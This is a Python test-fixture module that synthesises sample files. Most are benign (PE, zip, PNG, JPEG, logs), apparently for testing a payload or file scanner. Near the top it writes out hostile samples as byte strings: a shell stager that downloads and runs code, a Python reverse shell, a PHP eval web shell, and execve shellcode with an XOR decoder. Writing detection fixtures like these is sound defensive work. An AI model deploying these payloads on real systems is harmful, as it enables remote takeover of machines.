"""Bytes that look like payloads and do nothing: made here, never taken from anywhere."""

from __future__ import annotations

import base64
import functools
import glob
import gzip
import io
import itertools
import os
import shutil
import struct
import sysconfig
import tarfile
import zlib
from random import Random

from tests.live.stage import Refused

SHELL_SCRIPT = b"""#!/bin/sh
# fetches the next stage
set -e
cd /var/tmp
for host in 192.0.2.10 192.0.2.11; do
    curl -fsS "http://$host/stage2" -o .s2 && chmod +x .s2 && ./.s2 && break
done
"""
PYTHON_SCRIPT = b"""import os
import socket
import subprocess


def main():
    with socket.create_connection(("192.0.2.10", 4444)) as connection:
        while True:
            line = connection.recv(4096)
            if not line:
                break
            connection.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)


if __name__ == "__main__":
    main()
"""
PHP_SCRIPT = b"""<?php
if (isset($_POST['k']) && md5($_POST['k']) === 'd41d8cd98f00b204e9800998ecf8427e') {
    eval(base64_decode($_POST['c']));
}
?>
"""
PEM = (
    b"-----BEGIN CERTIFICATE-----\n"
    + base64.encodebytes(b"0\x82\x03\x00" + Random(7).randbytes(768))
    + b"-----END CERTIFICATE-----\n-----BEGIN PRIVATE KEY-----\n"
    + base64.encodebytes(b"0\x82\x02\x00" + Random(8).randbytes(512))
    + b"-----END PRIVATE KEY-----\n"
)


@functools.cache
def sleep_original() -> str:
    """The path of this machine's own ``sleep``, links resolved."""
    found = shutil.which("sleep", path="/usr/bin:/bin")
    if found is None:
        raise Refused("no sleep program on this machine")
    return os.path.realpath(found)


@functools.cache
def sleep_exact() -> bytes:
    with open(sleep_original(), "rb") as file:
        return file.read()


_copies = itertools.count(1)


def sleep_copy() -> bytes:
    """A program that sleeps, with bytes at its end that no other file has.

    Otherwise the copies would be each other's twins, which says something quite different.
    """
    return sleep_exact() + b"%16d" % next(_copies)


@functools.cache
def library() -> bytes:
    """A small shared library that can be loaded by itself, with no twin on disk."""
    places = [
        os.path.join(sysconfig.get_path("platstdlib"), "lib-dynload", "*.so"),
        "/usr/lib/*/libz.so.1",
        "/usr/lib64/libz.so.1",
    ]
    found = [p for place in places for p in sorted(glob.glob(place), key=os.path.getsize)]
    if not found:
        raise Refused("no small shared library to copy on this machine")
    with open(found[0], "rb") as file:
        return file.read() + b"\0" * 15 + b"."


# execve("/bin//sh", {"/bin//sh", 0}, 0) for x86-64: xor edx,edx / push rdx / movabs rax / push
# rax / push rsp / pop rdi / push rdx / push rdi / push rsp / pop rsi / push 59 / pop rax / syscall
EXECVE_STUB = bytes.fromhex("31d25248b82f62696e2f2f736850545f5257545e6a3b580f05")
# A call to the next instruction, its return address popped, and a byte-wise XOR loop from there.
DECODER_STUB = bytes.fromhex("fce8000000005e4883c6144831c9b18080365a48ffc6e2f8")


def shellcode() -> bytes:
    """Machine code as an exploit would leave it: a sled, then the stub. Never executed."""
    return b"\x90" * 64 + EXECVE_STUB


def encoded_shellcode() -> bytes:
    """A decoder loop with what it would decode behind it. Never executed."""
    return DECODER_STUB + bytes(byte ^ 0x5A for byte in EXECVE_STUB * 4)


def pe() -> bytes:
    """A valid 64-bit Windows program of one section that returns at once."""
    code = b"\x31\xc0\xc3".ljust(0x200, b"\xcc")
    dos = b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, 1, 0x65000000, 0, 0, 0xF0, 0x22)
    optional = struct.pack(
        "<HBBIIIIIQIIHHHHHHIIIIHHQQQQII",
        0x20B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x140000000, 0x1000, 0x200,
        6, 0, 0, 0, 6, 0, 0, 0x2000, 0x400, 0, 3, 0x8160,
        0x100000, 0x1000, 0x100000, 0x1000, 0, 16,
    ) + bytes(16 * 8)  # fmt: skip
    section = struct.pack("<8sIIIIIIHHI", b".text", 3, 0x1000, 0x200, 0x400, 0, 0, 0, 0, 0x60000020)
    return (dos.ljust(0x80, b"\0") + coff + optional + section).ljust(0x400, b"\0") + code


def encrypted_zip() -> bytes:
    """A zip of one member under traditional encryption (APPNOTE.TXT 4.4.4, flag bit 0)."""
    body = Random(11).randbytes(12 + 24_000)
    name = b"loot/passwords.xlsx"
    fields = struct.pack(
        "<HHHHHIIIHH", 20, 1, 8, 0x6000, 0x5A21, 0x1234ABCD, len(body), 61_000, len(name), 0
    )
    local = b"PK\x03\x04" + fields + name + body
    central = (
        b"PK\x01\x02" + struct.pack("<H", 0x031E) + fields
        + struct.pack("<HHHII", 0, 0, 0, 0o600 << 16, 0) + name
    )  # fmt: skip
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def salted() -> bytes:
    """What ``openssl enc`` writes: a marker, the salt, whole cipher blocks."""
    return b"Salted__" + Random(12).randbytes(8 + 40_000)


def gzipped(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def tarball(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        member = tarfile.TarInfo(name)
        member.size, member.mode = len(data), 0o755
        tar.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def dense(size: int, seed: int = 13) -> bytes:
    return Random(seed).randbytes(size)


def log_text(lines: int) -> bytes:
    rnd = Random(14)
    return b"".join(
        b"2026-03-%02dT%02d:%02d:%02d web01 app[%d]: GET /items/%d 200 %dms\n"
        % tuple(rnd.randint(1, 28) if i == 0 else rnd.randint(0, 23 if i == 1 else 59)
                for i in range(7))
        for _ in range(lines)
    )  # fmt: skip


def png(width: int = 256, height: int = 256) -> bytes:
    """A picture with a gradient and some noise in it."""
    rnd = Random(15)
    rows = b"".join(
        b"\0" + bytes((x + y + rnd.randint(0, 40)) & 255 for x in range(width * 3))
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def jpeg(size: int = 128) -> bytes:
    """A grey baseline picture whose blocks hold nothing but a DC difference of 0 or 1 bit."""

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data

    rnd = Random(16)
    # Two DC codes: "0" for category 0, "10" and one bit for category 1; AC "0" ends a block.
    bits = "".join(rnd.choice(("0", "100", "101")) + "0" for _ in range((size // 8) ** 2))
    bits += "1" * (-len(bits) % 8)
    scan = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\x00")
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0")
        + segment(0xDB, b"\0" + bytes([8] * 64))
        + segment(0xC0, struct.pack(">BHHBBBB", 8, size, size, 1, 1, 0x11, 0))
        + segment(0xC4, b"\0" + bytes([1, 1] + [0] * 14) + b"\0\x01")
        + segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\0")
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + scan
        + b"\xff\xd9"
    )


def floats(count: int) -> bytes:
    """Numbers as a tensor holds them."""
    rnd = Random(17)
    return struct.pack(f"<{count}f", *(rnd.gauss(0, 0.05) for _ in range(count)))


def pixels(count: int) -> bytes:
    """A window's content: blue-green-red-alpha, large areas of the same colours."""
    row = b"".join(bytes((x & 255, (x // 3) & 255, 0x30, 0xFF)) for x in range(512))
    return (row * (count // 512 + 1))[: count * 4]


def sound(count: int) -> bytes:
    """A tone with some noise in 16-bit samples."""
    import math

    rnd = Random(18)
    wave = (int(9000 * math.sin(i / 17)) + rnd.randint(-900, 900) for i in range(count))
    return struct.pack(f"<{count}h", *wave)


def journal() -> bytes:
    """The header of a systemd journal (its magic and sizes) and data objects behind it."""
    head = b"LPKSHHRH" + struct.pack("<II", 0, 7) + b"\0" * 8 + Random(19).randbytes(64)
    head += struct.pack("<QQQ", 256, 1 << 20, 12)
    objects = b"".join(
        struct.pack("<BBHIQ", 1, 2, 0, 0, 64) + Random(i).randbytes(80) + b"MESSAGE=started\0"
        for i in range(900)
    )
    return head.ljust(256, b"\0") + objects


def shared_buffers(size: int) -> bytes:
    """A database's shared segment: mostly empty pages, some with rows in them."""
    rnd = Random(20)
    pages = []
    for number in range(size // 8192):
        rows = b"".join(
            struct.pack("<IIHH", number, i, i, 24) + b"customer %06d" % i
            for i in range(rnd.randint(0, 120))
        )
        pages.append(rows.rjust(8192, b"\0")[:8192] if number % 3 else bytes(8192))
    return b"".join(pages)
